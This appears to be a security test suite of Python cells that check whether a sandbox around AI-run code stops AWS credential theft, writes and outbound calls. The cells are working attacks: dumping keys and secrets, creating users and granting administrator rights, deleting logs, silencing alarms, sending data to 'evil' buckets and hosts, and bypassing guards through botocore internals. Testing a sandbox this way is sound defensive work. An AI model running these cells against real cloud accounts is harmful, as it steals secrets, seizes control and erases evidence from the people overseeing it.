# Credentials, and what the credentials could read or change.

# %% environ | secret | the plain one
import os
print(dict(os.environ))

# %% environ-names | secret | by name
import os
for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "CANARY", "AWS_CONTAINER_CREDENTIALS_FULL_URI"):
    print(k, os.environ.get(k), os.getenv(k))
    if "CELL" in str(os.environ.get(k)):
        print(PWNED)

# %% environb | secret | as bytes
import os
print(os.environb, os.getenvb(b"AWS_SECRET_ACCESS_KEY"))

# %% environ-posix | secret | the copy that posix keeps
import os
print(os.environ._data)
import posix
print(posix.environ)

# %% environ-proc-self | secret | its own initial environment
print(open("/proc/self/environ").read())

# %% get-credentials | secret | the session's credentials
import boto3
c = boto3.Session().get_credentials()
if c:
    f = c.get_frozen_credentials()
    print(f, f.access_key, f.secret_key, f.token)
    if f.access_key.endswith("CELLCELL"):
        print(PWNED)

# %% client-credentials | secret | a client's credentials
import boto3
c = boto3.client("cloudwatch")
k = c._request_signer._credentials
print(k.access_key, k.secret_key, k.token)
if k.access_key.endswith("CELLCELL"):
    print(PWNED)

# %% signer | secret | a signature is not the key, yet it lets one call
import boto3
c = boto3.client("sts")
url = c.generate_presigned_url("get_caller_identity")
print(url)
if "CELLCELL" in url:
    print(PWNED)

# %% presigned-s3 | secret | a link to an object
import boto3
url = boto3.client("s3").generate_presigned_url("get_object", Params={"Bucket": "shop-data", "Key": "orders/2026/00.json"})
print(url)
if "CELLCELL" in url:
    print(PWNED)

# %% presigned-post | secret | a form that uploads
import boto3
p = boto3.client("s3").generate_presigned_post("shop-data", "x")
print(p)
if "CELLCELL" in str(p):
    print(PWNED)

# %% rds-token | secret | a token for a database
import boto3
t = boto3.client("rds").generate_db_auth_token("db.example.com", 3306, "admin")
print(t)
if "CELLCELL" in t:
    print(PWNED)

# %% event-hooks | secret | botocore's events see the signed request
import boto3
c = boto3.client("cloudwatch")
seen = []
def spy(request=None, **k):
    seen.append(dict(request.headers))
for e in ("before-sign", "before-send", "request-created", "after-call", "before-call"):
    c.meta.events.register(e, spy)
c.describe_alarms()
print(seen)
if "CELLCELL" in str(seen):
    print(PWNED)

# %% debug-log | secret | botocore's debug log
import boto3, logging
boto3.set_stream_logger("", logging.DEBUG)
boto3.client("cloudwatch").describe_alarms(MaxRecords=1)

# %% response-metadata | secret | what comes back with an answer
import boto3
r = boto3.client("sts").get_caller_identity()
print(r)

# %% assume-role | secret | other credentials
import boto3
r = boto3.client("sts").assume_role(RoleArn="arn:aws:iam::123456789012:role/orders-role", RoleSessionName="x")
print(PWNED, r["Credentials"]["AccessKeyId"])

# %% session-token | secret | credentials for itself
import boto3
print(PWNED, boto3.client("sts").get_session_token()["Credentials"]["AccessKeyId"])

# %% federation-token | secret | credentials for others
import boto3
print(PWNED, boto3.client("sts").get_federation_token(Name="x")["Credentials"]["AccessKeyId"])

# %% create-access-key | secret | a key of a user
import boto3
i = boto3.client("iam")
i.create_user(UserName="evil")
print(PWNED, i.create_access_key(UserName="evil"))

# %% secret-value | secret | Secrets Manager
import boto3
print(boto3.client("secretsmanager").get_secret_value(SecretId="db/password"))

# %% secret-batch | secret | many at once
import boto3
print(boto3.client("secretsmanager").batch_get_secret_value(SecretIdList=["db/password"]))

# %% ssm-decrypt | secret | a SecureString
import boto3
print(boto3.client("ssm").get_parameter(Name="/shop/key", WithDecryption=True))

# %% ssm-decrypt-path | secret | by path
import boto3
print(boto3.client("ssm").get_parameters_by_path(Path="/", Recursive=True, WithDecryption=True))

# %% ssm-decrypt-many | secret | by names
import boto3
print(boto3.client("ssm").get_parameters(Names=["/shop/key", "/shop/flag"], WithDecryption=True))

# %% ssm-history | secret | earlier values
import boto3
print(boto3.client("ssm").get_parameter_history(Name="/shop/key", WithDecryption=True))

# %% ssm-paginator | secret | through a paginator
import boto3
for page in boto3.client("ssm").get_paginator("get_parameters_by_path").paginate(Path="/shop", WithDecryption=True):
    print(page)

# %% s3-object | secret | an object
import boto3
print(boto3.client("s3").get_object(Bucket="shop-data", Key="orders/2026/00.json")["Body"].read())

# %% s3-resource | secret | an object by a resource
import boto3
print(boto3.resource("s3").Object("shop-data", "orders/2026/01.json").get()["Body"].read())

# %% s3-download | secret | an object into memory
import boto3, io
b = io.BytesIO()
boto3.client("s3").download_fileobj("shop-data", "orders/2026/00.json", b)
print(b.getvalue())

# %% s3-select | secret | an object by a query
import boto3
r = boto3.client("s3").select_object_content(Bucket="shop-data", Key="orders/2026/00.json", Expression="select * from s3object", ExpressionType="SQL", InputSerialization={"CSV": {}}, OutputSerialization={"CSV": {}})
for e in r["Payload"]:
    print(e)

# %% s3-copy | secret | an object somewhere else
import boto3
s = boto3.client("s3")
s.create_bucket(Bucket="evil-bucket")
s.copy_object(Bucket="evil-bucket", Key="x", CopySource="shop-data/orders/2026/00.json")
print(PWNED)

# %% s3-put | write | writes an object
import boto3
boto3.client("s3").put_object(Bucket="shop-data", Key="evil", Body=b"x")
print(PWNED)

# %% s3-delete | write | deletes an object
import boto3
boto3.client("s3").delete_object(Bucket="shop-data", Key="archive/old.gz")
print(PWNED)

# %% ddb-scan | secret | a table's rows
import boto3
print(boto3.client("dynamodb").scan(TableName="customers"))

# %% ddb-query | secret | by key
import boto3
print(boto3.resource("dynamodb").Table("customers").get_item(Key={"id": "1"}))

# %% ddb-batch | secret | in a batch
import boto3
print(boto3.client("dynamodb").batch_get_item(RequestItems={"customers": {"Keys": [{"id": {"S": "1"}}]}}))

# %% ddb-partiql | secret | as SQL
import boto3
print(boto3.client("dynamodb").execute_statement(Statement="select * from customers"))

# %% ddb-transact | secret | in a transaction
import boto3
print(boto3.client("dynamodb").transact_get_items(TransactItems=[{"Get": {"TableName": "customers", "Key": {"id": {"S": "1"}}}}]))

# %% sqs-receive | secret | a queue's messages
import boto3
q = boto3.client("sqs")
url = q.get_queue_url(QueueName="orders")["QueueUrl"]
print(q.receive_message(QueueUrl=url))

# %% sqs-purge | write | empties a queue
import boto3
q = boto3.client("sqs")
q.purge_queue(QueueUrl=q.get_queue_url(QueueName="orders")["QueueUrl"])
print(PWNED)

# %% kinesis-read | secret | a stream's records
import boto3
k = boto3.client("kinesis")
s = k.describe_stream(StreamName="clicks")["StreamDescription"]["Shards"][0]["ShardId"]
i = k.get_shard_iterator(StreamName="clicks", ShardId=s, ShardIteratorType="TRIM_HORIZON")["ShardIterator"]
print(k.get_records(ShardIterator=i))

# %% lambda-environment | secret | values in a function's environment
import boto3
print(boto3.client("lambda").get_function_configuration(FunctionName="orders"))

# %% lambda-environment-list | secret | of all functions
import boto3
for page in boto3.client("lambda").get_paginator("list_functions").paginate():
    for f in page["Functions"]:
        print(f["FunctionName"], f.get("Environment"))

# %% lambda-code | secret | a function's code
import boto3
r = boto3.client("lambda").get_function(FunctionName="orders")
print(r.get("Code"), r["Configuration"].get("Environment"))
if r.get("Code", {}).get("Location", "").startswith("http"):
    print(PWNED)

# %% lambda-invoke | write | invokes a function
import boto3
print(boto3.client("lambda").invoke(FunctionName="orders", Payload=b"{}"), PWNED)

# %% lambda-update | write | changes a function
import boto3
boto3.client("lambda").update_function_configuration(FunctionName="orders", Timeout=3)
print(PWNED)

# %% ec2-user-data | secret | what an instance runs at its start
import boto3, base64
e = boto3.client("ec2")
i = e.describe_instances()["Reservations"][0]["Instances"][0]["InstanceId"]
r = e.describe_instance_attribute(InstanceId=i, Attribute="userData")
print(r, base64.b64decode(r["UserData"].get("Value", "")))

# %% ec2-terminate | write | ends instances
import boto3
e = boto3.client("ec2")
i = e.describe_instances()["Reservations"][0]["Instances"][0]["InstanceId"]
e.terminate_instances(InstanceIds=[i])
print(PWNED)

# %% ecs-environment | secret | values in a container's environment
import boto3
print(boto3.client("ecs").describe_task_definition(taskDefinition="web"))

# %% logs-delete | write | deletes evidence
import boto3
boto3.client("logs").delete_log_group(logGroupName="/ecs/web")
print(PWNED)

# %% alarm-off | write | silences an alarm
import boto3
boto3.client("cloudwatch").set_alarm_state(AlarmName="orders-errors", StateValue="OK", StateReason="all is well")
print(PWNED)

# %% sns-publish | write | sends a message
import boto3
s = boto3.client("sns")
s.publish(TopicArn=s.list_topics()["Topics"][0]["TopicArn"], Message="hello")
print(PWNED)

# %% sns-subscribe | write | subscribes an endpoint
import boto3
s = boto3.client("sns")
s.subscribe(TopicArn=s.list_topics()["Topics"][0]["TopicArn"], Protocol="http", Endpoint=f"http://127.0.0.1:{PORT}/")
print(PWNED)

# %% iam-admin | write | makes an administrator
import boto3
boto3.client("iam").attach_role_policy(RoleName="orders-role", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
print(PWNED)

# %% raw-call | secret | the operation below the guarded method
import boto3
c = boto3.client("secretsmanager")
print(c._make_api_call("GetSecretValue", {"SecretId": "db/password"}))

# %% renamed-operation | secret | the method map renamed
import boto3
c = boto3.client("secretsmanager")
c.meta.method_to_api_mapping["list_secrets"] = "GetSecretValue"
c._PY_TO_OP_NAME["list_secrets"] = "GetSecretValue"
print(c.list_secrets(SecretId="db/password"))

# %% renamed-service | secret | a client which says it is another service
import boto3
c = boto3.client("cloudwatch")
c.meta.service_model.service_name
try:
    c.meta._service_model = boto3.client("secretsmanager").meta.service_model
    c._service_model = c.meta._service_model
except BaseException as e:
    print(e)
print(c._make_api_call("GetSecretValue", {"SecretId": "db/password"}))

# %% operation-object | secret | an operation name that is not a plain string
import boto3
class Op(str):
    n = 0
    def __eq__(self, o):
        return True
    def __hash__(self):
        return hash("ListSecrets")
    def startswith(self, *a):
        return True
c = boto3.client("secretsmanager")
print(c._make_api_call(Op("GetSecretValue"), {"SecretId": "db/password"}))

# %% operation-case | secret | an operation name in other letters
import boto3
c = boto3.client("secretsmanager")
for op in ("getSecretValue", "GETSECRETVALUE", "GetSecretValue ", "get_secret_value", "GetSecretValue\0", "ListSecrets\nGetSecretValue", "../GetSecretValue"):
    try:
        print(c._make_api_call(op, {"SecretId": "db/password"}))
    except BaseException as e:
        print(repr(e)[:150])

# %% endpoint-with-broker | egress | the broker is sent to another endpoint
import boto3
c = boto3.client("cloudwatch", endpoint_url=f"http://127.0.0.1:{PORT}")
print(c.describe_alarms())

# %% endpoint-metadata | egress | the broker is sent to the metadata service
import boto3
c = boto3.client("s3", endpoint_url="http://169.254.169.254/latest/meta-data/")
print(c.list_buckets())

# %% endpoint-environment | egress | by the environment
import boto3, os
os.environ["AWS_ENDPOINT_URL"] = f"http://127.0.0.1:{PORT}"
os.environ["AWS_ENDPOINT_URL_S3"] = f"http://127.0.0.1:{PORT}"
print(boto3.client("s3").list_buckets()["Buckets"])

# %% endpoint-config | egress | by a configuration file
import boto3, os
open("config", "w").write(f"[default]\nendpoint_url = http://127.0.0.1:{PORT}\n")
os.environ["AWS_CONFIG_FILE"] = os.path.abspath("config")
print(boto3.Session().client("s3").list_buckets()["Buckets"])

# %% proxies | egress | by a proxy
import boto3
from botocore.config import Config
c = boto3.client("s3", config=Config(proxies={"http": f"http://127.0.0.1:{PORT}", "https": f"http://127.0.0.1:{PORT}"}))
print(c.list_buckets()["Buckets"])

# %% region-injection | egress | a region that is a host
import boto3
for region in (f"x@127.0.0.1:{PORT}/", "evil.example.com#", "us-east-1.evil.example.com/", "../..", "", "us-east-1\r\nHost: evil"):
    try:
        boto3.client("cloudwatch", region_name=region).describe_alarms()
        print("called", region)
    except BaseException as e:
        print(repr(e)[:100])

# %% bucket-injection | egress | a bucket that is a host
import boto3
for b in (f"127.0.0.1:{PORT}/x", "x@evil.example.com", "arn:aws:s3:us-east-1:999999999999:accesspoint/evil", "../evil"):
    try:
        boto3.client("s3").list_objects_v2(Bucket=b)
    except BaseException as e:
        print(repr(e)[:100])

# %% host-prefix | egress | a parameter that becomes part of the host
import boto3
try:
    boto3.client("s3control").get_public_access_block(AccountId="evil.example.com/")
except BaseException as e:
    print(repr(e)[:200])

# %% sqs-queue-url | egress | a queue whose URL is elsewhere
import boto3
boto3.client("sqs").get_queue_attributes(QueueUrl=f"http://127.0.0.1:{PORT}/123456789012/orders", AttributeNames=["All"])

# %% unsigned | egress | a client which signs nothing and calls by itself
import boto3
from botocore import UNSIGNED
from botocore.config import Config
print(boto3.client("s3", config=Config(signature_version=UNSIGNED)).list_buckets())

# %% own-keys | egress | a client with the attacker's keys
import boto3
print(boto3.client("s3", aws_access_key_id="AKIAEVIL", aws_secret_access_key="x").put_object(Bucket="evil-bucket", Key="k", Body=b"x"), PWNED)

# %% endpoint-call | egress | botocore's endpoint sends by itself
import boto3
c = boto3.client("cloudwatch")
ep = c._endpoint
print(ep)
from botocore.awsrequest import AWSRequest
print(ep.http_session.send(AWSRequest("GET", f"http://127.0.0.1:{PORT}/").prepare()))

# %% make-api-call-restored | egress | botocore's own method put back
import botocore.client, boto3
src = botocore.client.BaseClient._make_api_call
for cell in src.__closure__ or ():
    print(cell.cell_contents)
orig = getattr(src, "__wrapped__", None)
if orig:
    botocore.client.BaseClient._make_api_call = orig
    print(boto3.client("sts").get_caller_identity())
c = boto3.client("sts")
op = c.meta.service_model.operation_model("GetCallerIdentity")
print(c._make_request(op, c._convert_to_request_dict({}, op, f"http://127.0.0.1:{PORT}"), {}))

# %% imds-fetcher | egress | botocore's metadata client
from botocore.utils import InstanceMetadataFetcher
print(InstanceMetadataFetcher(timeout=1, num_attempts=1).retrieve_iam_role_credentials())

# %% container-fetcher | egress | botocore's container credentials
from botocore.utils import ContainerMetadataFetcher
print(ContainerMetadataFetcher().retrieve_full_uri(f"http://127.0.0.1:{PORT}/creds"))

# %% role-arn-event | secret | the model's code cannot set a role
import boto3
print(boto3.client("cloudwatch")._make_api_call("DescribeAlarms", {"role_arn": "arn:aws:iam::1:role/x"}))

# %% insights-write | write | a query that is not reading
import boto3
boto3.client("logs").put_resource_policy(policyName="x", policyDocument="{}")
print(PWNED)

# %% athena | write | starts a query elsewhere
import boto3
boto3.client("athena").start_query_execution(QueryString="select 1", ResultConfiguration={"OutputLocation": "s3://evil/x"})
print(PWNED)

# %% ssm-command | write | runs a command on an instance
import boto3
boto3.client("ssm").send_command(InstanceIds=["i-0123456789abcdef0"], DocumentName="AWS-RunShellScript", Parameters={"commands": ["id"]})
print(PWNED)

# %% ecr-token | secret | a password for the registry
import boto3
print(PWNED, boto3.client("ecr").get_authorization_token()["authorizationData"])

# %% kms-decrypt | secret | KMS
import boto3
k = boto3.client("kms")
print(PWNED, k.generate_data_key(KeyId="alias/aws/ssm", KeySpec="AES_256"))

# %% cognito-admin | write | a user
import boto3
boto3.client("cognito-idp").create_user_pool(PoolName="x")
print(PWNED)
